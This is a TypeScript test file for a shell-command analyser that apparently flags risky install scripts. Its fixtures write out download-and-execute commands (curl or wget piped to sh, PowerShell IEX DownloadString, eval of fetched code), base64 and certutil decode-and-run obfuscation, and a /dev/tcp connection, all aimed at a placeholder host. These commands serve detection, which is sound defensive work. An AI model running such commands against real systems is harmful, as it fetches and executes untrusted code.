import { describe, expect, it } from 'vitest';
import { analyzeCommand, encodedBlobReason, excerptAround, invocationOf, readInstallArg, splitPipelines, splitWords, stringLiterals } from './shell.js';

const BLOB = 'QWxhZGRpbjpvcGVuIHNlc2FtZQ0K'.repeat(12);

describe('splitPipelines', () => {
  it.each([
    ['a | b', [['a ', ' b']]],
    ['a && b || c; d', [['a '], [' b '], [' c'], [' d']]],
    ['echo "x | y" | sh', [['echo "x | y" ', ' sh']]],
    ["echo 'a && b'", [["echo 'a && b'"]]],
    ['bash -c "$(curl x | sh)"', [['bash -c "$(curl x | sh)"']]],
    ['x $(a | b) | c', [['x $(a | b) ', ' c']]],
    ['run 2>&1 | tee log', [['run 2>&1 ', ' tee log']]],
    ['a & b', [['a '], [' b']]],
    ['a\nb', [['a'], ['b']]],
  ])('%j', (text, expected) => {
    expect(splitPipelines(text).map((p) => p.map((s) => s.text))).toEqual(expected);
  });

  it('records where each segment starts', () => {
    const text = 'npm run build && curl https://x.example | sh';
    const segments = splitPipelines(text).flat();
    expect(segments.map((s) => text.slice(s.start, s.start + 4))).toEqual(['npm ', ' cur', ' sh']);
  });
});

describe('splitWords', () => {
  it.each([
    ['node  scripts/x.js --flag', ['node', 'scripts/x.js', '--flag']],
    [`node -e "console.log('a b')"`, ['node', '-e', "console.log('a b')"]],
    [`sh -c 'echo "hi"'`, ['sh', '-c', 'echo "hi"']],
    ['bash <(curl -s https://x.example)', ['bash', '<(curl -s https://x.example)']],
    ['echo a\\ b', ['echo', 'a b']],
    ['echo "a \\"q\\" b"', ['echo', 'a "q" b']],
    ['', []],
  ])('%j', (text, expected) => {
    expect(splitWords(text)).toEqual(expected);
  });
});

describe('invocationOf', () => {
  it.each([
    [['node', 'x.js'], 'node'],
    [['FOO=1', 'BAR=2', 'node', 'x.js'], 'node'],
    [['sudo', '-E', 'bash', '-'], 'bash'],
    [['env', '-i', 'sh'], 'sh'],
    [['/usr/bin/env', 'node'], 'node'],
    [['cross-env', 'NODE_ENV=production', 'node', 'build.js'], 'node'],
    [['C:\\Windows\\System32\\cmd.exe', '/c', 'dir'], 'cmd'],
    [['(', 'curl', 'x', ')'], 'curl'],
  ])('%j runs %s', (words, name) => {
    expect(invocationOf(words)?.name).toBe(name);
  });

  it('returns undefined for assignments only', () => {
    expect(invocationOf(['A=1'])).toBeUndefined();
  });
});

describe('analyzeCommand: download and execute', () => {
  it.each([
    ['curl -fsSL https://x.example/i.sh | sh', 'pipe'],
    ['wget -qO- http://x.example/x | bash', 'pipe'],
    ['curl https://x.example/i.sh | sudo -E bash -', 'pipe'],
    ['curl -s https://x.example/i.sh | bash -s -- --yes', 'pipe'],
    ['curl -s https://x.example/x.py | python3 -', 'pipe'],
    ['bash -c "$(curl -fsSL https://x.example/i.sh)"', 'substitution'],
    ["sh -c 'curl -s https://x.example | sh'", 'pipe'],
    ['eval "$(wget -qO- https://x.example)"', 'substitution'],
    ['source <(curl -s https://x.example/env)', 'substitution'],
    ['bash <(curl -s https://x.example/env)', 'substitution'],
    ['$(curl -s https://x.example/cmd)', 'substitution'],
    ['powershell -c "iex (iwr https://x.example/p.ps1)"', 'powershell'],
    [`powershell -Command "IEX(New-Object Net.WebClient).DownloadString('http://x.example/a')"`, 'powershell'],
    [`node -e "fetch('https://x.example/p').then(r=>r.text()).then(eval)"`, 'inline'],
    [`node -e "require('https').get('https://x.example/p', r => { let d=''; r.on('data', c => d += c); r.on('end', () => eval(d)); })"`, 'inline'],
    [`python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example').read())"`, 'inline'],
    [`node -e "require('child_process').execSync('curl https://x.example/a | sh')"`, 'pipe'],
    ['npx https://x.example/pkg.tgz', 'package'],
    ['npx github:someone/tool', 'package'],
    ['npx -y totally-unknown-pkg', 'package'],
    ['npx unknown-pkg@1.2.3', 'package'],
    ['npm exec --yes -- unknown-pkg@1.0.0', 'package'],
    ['pnpm dlx someone/tool', 'package'],
    ['npm install https://x.example/evil.tgz', 'package'],
    ['curl -o /tmp/x.sh https://x.example/x.sh && sh /tmp/x.sh', 'file'],
    ['wget https://x.example/setup.sh && bash setup.sh', 'file'],
    ['curl -O https://x.example/run.sh; chmod +x run.sh; ./run.sh', 'file'],
  ])('%s', (command, via) => {
    const result = analyzeCommand(command);
    expect(result.downloadExec?.via).toBe(via);
  });

  it.each([
    'npm run build',
    'husky install',
    'husky || true',
    'is-ci || husky install',
    'tsc',
    'tsc -p tsconfig.build.json',
    'patch-package',
    'npx patch-package',
    'npx husky install',
    'npx tsc',
    'node scripts/postinstall.js',
    'node-gyp rebuild',
    'prisma generate',
    'cross-env NODE_ENV=production node build.js',
    'echo "Thanks! Docs at https://docs.example.com"',
    'curl -o data.bin https://x.example/data.bin',
    'node -e "console.log(eval(\'1+1\'))"',
    'npx declared-tool --flag',
  ])('not for %s', (command) => {
    const result = analyzeCommand(command, { declared: new Set(['declared-tool']) });
    expect(result.downloadExec).toBeUndefined();
    expect(result.obfuscated).toBeUndefined();
  });
});

describe('analyzeCommand: obfuscation', () => {
  it.each([
    'echo aGVsbG8= | base64 -d | sh',
    'echo aGVsbG8= | base64 --decode | bash',
    'echo 6563686f | xxd -r -p | sh',
    `node -e "eval(Buffer.from('ZXZpbA==','base64').toString())"`,
    `node -e "new Function(atob('ZXZpbA=='))()"`,
    `python -c "import base64;exec(base64.b64decode('ZXZpbA=='))"`,
    'powershell -enc SQBFAFgA',
    'pwsh -EncodedCommand SQBFAFgA',
    'eval "$(echo Y3VybA== | base64 -d)"',
    `node -e "${BLOB}"`,
    `echo ${'ab12'.repeat(60)} > x`,
    `node -e "${'\\x41'.repeat(50)}"`,
    'node index.js \u001b[2K',
    'node index.js \u202e',
    'node ind\u200bex.js',
    'certutil -decode payload.b64 payload.exe',
  ])('%j', (command) => {
    expect(analyzeCommand(command).obfuscated).toBeDefined();
  });

  it.each(['node scripts/build.js', 'echo done', 'tsc && node dist/setup.js', `node -e "console.log(require('./package.json').version)"`])(
    'not for %j',
    (command) => {
      expect(analyzeCommand(command).obfuscated).toBeUndefined();
    },
  );
});

describe('analyzeCommand: network use', () => {
  it.each([
    'curl -o data.bin https://x.example/data.bin',
    'wget https://x.example/file.tar.gz && tar xzf file.tar.gz',
    `node -e "require('https').get('https://x.example/ping')"`,
    'git clone https://x.example/repo.git vendor',
    'npx some-undeclared-tool',
    'cat < /dev/tcp/10.0.0.1/80',
    'npm install left-pad',
    'Invoke-WebRequest -Uri https://x.example -OutFile a.zip',
  ])('%j', (command) => {
    const result = analyzeCommand(command);
    expect(result.network).toBeDefined();
    expect(result.downloadExec).toBeUndefined();
  });

  it.each(['npm run build', 'node scripts/postinstall.js', 'echo "see https://docs.example.com"', 'husky install', 'npx declared-tool'])(
    'not for %j',
    (command) => {
      expect(analyzeCommand(command, { declared: new Set(['declared-tool']) }).network).toBeUndefined();
    },
  );
});

describe('analyzeCommand: files run', () => {
  it.each([
    ['node scripts/postinstall.js', ['scripts/postinstall.js']],
    ['node ./missing.js --flag', ['./missing.js']],
    ['node -r dotenv/config setup.js', ['setup.js']],
    ['sh ./install.sh', ['./install.sh']],
    ['/bin/sh ./install.sh', ['./install.sh']],
    ['./bin/setup', ['./bin/setup']],
    ['python3 setup.py install', ['setup.py']],
    ['python3 -m pip install x', []],
    ['node -e "1"', []],
    ['npm run build', []],
    ['deno run main.ts', ['main.ts']],
  ])('%s', (command, files) => {
    expect(analyzeCommand(command).runsFiles.map((f) => f.path)).toEqual(files);
  });

  it('marks files that an earlier build step or cd may provide', () => {
    const [built] = analyzeCommand('tsc && node dist/postinstall.js').runsFiles;
    const [moved] = analyzeCommand('cd tools && node setup.js').runsFiles;
    const [plain] = analyzeCommand('node setup.js').runsFiles;
    expect(built?.uncertain).toBe(true);
    expect(moved?.uncertain).toBe(true);
    expect(plain?.uncertain).toBe(false);
  });
});

describe('helpers', () => {
  it.each([
    ['https://x.example/a.tgz', 'remote'],
    ['github:u/r', 'remote'],
    ['u/r', 'remote'],
    ['./local', 'local'],
    ['left-pad', 'registry'],
    ['@scope/pkg@1.2.3', 'registry'],
  ])('readInstallArg(%s) is %s', (arg, source) => {
    expect(readInstallArg(arg).source).toBe(source);
  });

  it('reads the name and pin of a scoped registry spec', () => {
    expect(readInstallArg('@scope/pkg@1.2.3')).toMatchObject({ name: '@scope/pkg', pinned: true });
    expect(readInstallArg('@scope/pkg')).toMatchObject({ name: '@scope/pkg', pinned: false });
  });

  it('extracts string literals of inline code', () => {
    expect(stringLiterals(`a('x', "y \\" z", \`t\`)`)).toEqual(['x', 'y \\" z', 't']);
  });

  it('ignores ordinary hashes and paths as blobs', () => {
    expect(encodedBlobReason('sha512-' + 'Ab1'.repeat(29))).toBeUndefined();
    expect(encodedBlobReason('node node_modules/some-package/dist/esm/index.js')).toBeUndefined();
  });

  it('excerpts around an offset and marks cuts', () => {
    const text = `${'a'.repeat(300)}CURL${'b'.repeat(300)}`;
    const excerpt = excerptAround(text, 300, 40);
    expect(excerpt).toContain('CURL');
    expect(excerpt.startsWith('…')).toBe(true);
    expect(excerpt.endsWith('…')).toBe(true);
    expect(excerptAround('short', 0)).toBe('short');
  });
});

describe('analyzeCommand on hostile input', () => {
  it('stays fast on long, deeply quoted and unbalanced input', () => {
    const inputs = [
      '"'.repeat(200_000),
      '$('.repeat(100_000),
      `${'a | '.repeat(50_000)}sh`,
      `node -e "${"'".repeat(100_000)}"`,
      'x'.repeat(1_000_000),
      `${'\\'.repeat(100_001)}`,
      `curl ${'-'.repeat(100_000)}`,
    ];
    const started = performance.now();
    for (const input of inputs) analyzeCommand(input);
    expect(performance.now() - started).toBeLessThan(3000);
  });

  it('reads both ends of an oversized command and calls its size out', () => {
    const result = analyzeCommand(`${'echo ok; '.repeat(20_000)}curl -s https://x.example/a | sh`);
    expect(result.downloadExec?.via).toBe('pipe');
    expect(result.downloadExec?.at).toBeGreaterThan(100_000);
    expect(result.obfuscated?.reason).toContain('too long');
  });

  it('still finds a payload after a long harmless prefix', () => {
    const command = `${'echo ok; '.repeat(1000)}curl -s https://x.example/a | sh`;
    expect(analyzeCommand(command).downloadExec).toBeDefined();
  });
});
